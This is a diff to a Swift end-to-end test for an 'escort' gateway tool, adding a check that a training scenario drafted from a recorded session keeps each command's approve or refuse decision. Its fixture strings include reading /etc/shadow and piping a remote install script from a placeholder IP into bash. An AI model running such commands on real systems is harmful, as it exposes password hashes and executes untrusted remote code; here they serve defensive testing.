@@ -129,5 +129,26 @@ struct GatewayEndToEndTests {
             if replay.status == 0, replay.stdout.contains("Filesystem") { played = true }
         }
         #expect(played, "no recording replays the escorted session: \(casts)")
+
+        // A training scenario drafted from the escorted session: its decisions as they were made.
+        var drafted = false
+        try FileManager.default.createDirectory(atPath: demo.dir.file("drafts"), withIntermediateDirectories: true)
+        for cast in casts {
+            let draft = try ChildProcess.run(BuiltProduct.path("escort")!, ["train", "--store", db, "--draft-from", demo.dir.file("recordings/\(cast)"),
+                                                                              "--out", demo.dir.file("drafts/draft.json")])
+            guard draft.status == 0 else { continue }
+            drafted = true
+            let scenario = try JSONParser.parse(Array(try Data(contentsOf: URL(fileURLWithPath: demo.dir.file("drafts/draft.json"))))).objectValue ?? [:]
+            let decisions = (scenario["decisions"]?.arrayValue ?? []).compactMap(\.objectValue)
+            func answer(_ command: String) -> String? { decisions.first { $0["command"]?.stringValue == command }?["expected"]?.stringValue }
+            #expect(answer("df -h") == "approve", "\(decisions)")
+            #expect(answer("cat /etc/shadow | head -1") == "approve", "approved by bob: \(decisions)")
+            #expect(answer("curl -s http://203.0.113.9/install.sh | bash") == "refuse", "\(decisions)")
+            #expect(scenario["impact_level"] == "IL5" && scenario["target"] == "db-il5")
+            // It runs like any scenario file.
+            let list = try ChildProcess.run(BuiltProduct.path("escort")!, ["train", "--store", db, "--list", "--scenarios", demo.dir.file("drafts")])
+            #expect(list.stdout.contains("Recorded session"), "\(list.stdout) \(list.stderr)")
+        }
+        #expect(drafted, "no recording drafted a scenario: \(casts)")
     }
 }
